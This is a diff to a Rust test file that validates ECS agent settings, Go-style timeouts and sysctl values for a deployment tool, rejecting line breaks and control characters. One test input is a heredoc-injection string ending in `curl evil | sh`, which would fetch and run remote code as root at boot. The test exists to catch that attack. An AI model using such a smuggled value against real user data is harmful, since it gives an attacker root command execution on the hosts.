@@ -1310,8 +1310,39 @@ fn agent_settings() {
     assert_eq!(
         capacity(|c| c.agent_setting("ECS_INSTANCE_ATTRIBUTES", "{\"a\":\n\"b\"}")),
         ["error: stack `shop` › capacity provider `general` › \
-          `agent_settings.ECS_INSTANCE_ATTRIBUTES`: the value spans lines; /etc/ecs/ecs.config \
-          takes one line per setting"]
+          `agent_settings.ECS_INSTANCE_ATTRIBUTES`: `{\\\"a\\\":\\n\\\"b\\\"}` holds a line break \
+          or another control character; /etc/ecs/ecs.config takes one line of printable text per \
+          setting"]
+    );
+    // A carriage return or a NUL would also end up raw in the user data.
+    assert_eq!(
+        capacity(|c| c.agent_setting("ECS_LOGLEVEL", "info\r\0")).len(),
+        1
+    );
+}
+
+/// The two timeouts are written raw into the user data's ecs.config heredoc: a newline there
+/// would end the heredoc and run the rest as root at boot. The agent parses both with Go's
+/// `time.ParseDuration` (amazon-ecs-agent `agent/config/parse.go`), so that syntax is all
+/// that is accepted.
+#[test]
+fn agent_timeouts_are_go_durations() {
+    assert_eq!(
+        capacity(|c| c.task_cleanup_wait("1h30m").container_stop_timeout("90s")),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        capacity(|c| c
+            .task_cleanup_wait("1h\nECS_CONFIG\ncurl evil | sh")
+            .container_stop_timeout("30")),
+        [
+            "error: stack `shop` › capacity provider `general` › `task_cleanup_wait`: \
+             `1h\\nECS_CONFIG\\ncurl evil | sh` is not a duration the ECS agent reads: a number \
+             and a unit, `ns`, `us`, `ms`, `s`, `m` or `h`, repeated (`30s`, `1h30m`)",
+            "error: stack `shop` › capacity provider `general` › `container_stop_timeout`: `30` \
+             is not a duration the ECS agent reads: a number and a unit, `ns`, `us`, `ms`, `s`, \
+             `m` or `h`, repeated (`30s`, `1h30m`)"
+        ]
     );
 }
 
@@ -1326,14 +1357,14 @@ fn kernel_settings() {
         [
             "error: stack `shop` › capacity provider `general` › `kernel_settings`: `net core \
           somaxconn = 4096` is not a sysctl setting: names use A-Z, a-z, 0-9, `.`, `_`, `-`, \
-          values one line"
+          values one line of printable text"
         ]
     );
     assert_eq!(
         capacity(|c| c.kernel_setting("vm.swappiness", "10\n20")),
         ["error: stack `shop` › capacity provider `general` › `kernel_settings`: `vm.swappiness \
-          = 10\n20` is not a sysctl setting: names use A-Z, a-z, 0-9, `.`, `_`, `-`, values one \
-          line"]
+          = 10\\n20` is not a sysctl setting: names use A-Z, a-z, 0-9, `.`, `_`, `-`, values one \
+          line of printable text"]
     );
 }
 
